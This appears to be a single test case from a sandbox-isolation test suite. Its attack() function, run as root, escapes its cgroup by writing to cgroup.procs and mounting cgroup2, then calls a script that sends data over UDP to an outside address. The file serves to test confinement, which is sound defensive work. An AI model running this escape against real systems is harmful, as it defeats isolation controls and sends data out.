# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Leaving the cgroup by cgroupfs, as root'
origin='RESEARCH §2.74'
reason='not_resolved'
forms=run who=root
attack() {
    client sh -c 'echo $$ > "$0/cgroup.procs"; mount -t cgroup2 none /mnt 2> /dev/null && echo $$ > /mnt/cgroup.procs; exec "$@"' "$CGROUPS" "$PYTHON" "$TOOL/send.py" udp 198.18.3.66 9999 "$1"
    h c umount /mnt 2> /dev/null
}
